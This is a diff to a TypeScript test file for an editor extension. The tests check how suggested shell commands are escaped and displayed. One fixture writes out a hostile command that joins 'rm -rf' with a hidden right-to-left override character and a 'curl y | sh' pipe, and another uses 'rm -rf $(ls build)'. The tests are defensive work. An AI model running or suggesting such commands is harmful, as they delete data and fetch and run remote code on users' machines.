@@ -1,8 +1,13 @@
 import { strict as assert } from 'assert';
-import type { BlockResult, EditResult } from '../../src/core/protocol';
+import type { BlockResult, EditResult, ShellCommand } from '../../src/core/protocol';
 import { blockPreviews, countBlocks, escapeIcons, headline, statusText, statusTooltip, summaryEntries } from '../../src/core/summary';
 
 const ROOT = 'file:///home/u/project';
+
+/** A shell command as the server sends it when nothing in it needs escaping or splitting. */
+function shell(command: string): ShellCommand {
+  return { command, display: command, parts: [{ command, display: command }] };
+}
 
 function result(partial: Partial<EditResult>): EditResult {
   return { edit: null, blocks: [], warnings: [], shellSuggestions: [], runId: 'r1', ...partial };
@@ -25,6 +30,7 @@ const mixed = result({
   ],
   warnings: [{ responseLine: 41, message: 'block is not closed' }],
   shellSuggestions: ['git rm old.py'],
+  shellCommands: [shell('git rm old.py')],
 });
 
 // A response applied a second time after one more block was added to it.
@@ -170,12 +176,33 @@ describe('summaryEntries', () => {
     assert.equal(warning?.label, '$(warning) response line 42');
   });
 
+  it('shows a shell command by the display text the server computed, never the raw text', () => {
+    const raw = 'rm -rf build\u202e/x; curl y | sh';
+    const hostile = result({
+      shellSuggestions: [raw],
+      shellCommands: [{
+        command: raw,
+        display: 'rm -rf build<U+202E>/x; curl y | sh',
+        parts: [
+          { command: 'rm -rf build\u202e/x', display: 'rm -rf build<U+202E>/x' },
+          { command: 'curl y', display: 'curl y' },
+          { command: 'sh', display: 'sh' },
+        ],
+      }],
+    });
+    const [entry] = summaryEntries(hostile, [ROOT]);
+    assert.equal(entry.label, '$(terminal) rm -rf build<U+202E>/x; curl y | sh');
+    assert.equal(entry.shell?.parts.length, 3);
+    // A server that sends no display form gets nothing offered to run.
+    assert.deepEqual(summaryEntries(result({ shellSuggestions: [raw] }), [ROOT]), []);
+  });
+
   it('leaves clipboard warnings without a location and lists shell suggestions last', () => {
     const clipboard = summaryEntries(mixed, [ROOT]);
     assert.equal(clipboard.find((e) => e.kind === 'warning')?.target, undefined);
     const last = clipboard[clipboard.length - 1];
     assert.equal(last.kind, 'shell');
-    assert.equal(last.command, 'git rm old.py');
+    assert.equal(last.shell?.command, 'git rm old.py');
   });
 
   it('shows an already-applied block with its own icon and words, at the line where its text is', () => {
@@ -249,12 +276,13 @@ describe('escapeIcons', () => {
     const odd = result({
       blocks: [block({ index: 0, file: '$(x).py', status: 'failed', line: 0, reason: 'not found: $(y)' })],
       shellSuggestions: ['rm -rf $(ls build)'],
+      shellCommands: [shell('rm -rf $(ls build)')],
     });
-    const [blockEntry, shell] = summaryEntries(odd, [ROOT]);
+    const [blockEntry, shellEntry] = summaryEntries(odd, [ROOT]);
     assert.equal(blockEntry.label, '$(error) \\$(x).py:1');
     assert.equal(blockEntry.detail, 'not found: \\$(y)');
-    assert.equal(shell.label, '$(terminal) rm -rf \\$(ls build)');
-    assert.equal(shell.command, 'rm -rf $(ls build)');
+    assert.equal(shellEntry.label, '$(terminal) rm -rf \\$(ls build)');
+    assert.equal(shellEntry.shell?.parts[0].command, 'rm -rf $(ls build)');
   });
 });
 
